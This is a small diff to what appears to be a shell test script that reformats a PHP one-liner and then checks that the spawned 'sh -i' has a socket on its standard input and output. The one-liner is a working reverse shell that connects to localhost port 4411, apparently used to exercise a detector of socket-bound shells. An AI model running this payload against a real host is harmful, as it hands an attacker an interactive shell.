@@ -10,7 +10,8 @@ peer 4411
 #: act
 . lib/peers.sh
 act
-php -r '$s = fsockopen("127.0.0.1", 4411); $p = proc_open("sh -i", [$s, $s, $s], $pipes); proc_close($p);' \
+php -r '$s = fsockopen("127.0.0.1", 4411);
+$p = proc_open("sh -i", [$s, $s, $s], $pipes); proc_close($p);' \
   < /dev/null > /dev/null 2>&1 & fact php $!
 who shell 'sh -i'
 await 'at $shell 0 socket:* && same $shell 0 $shell 1'
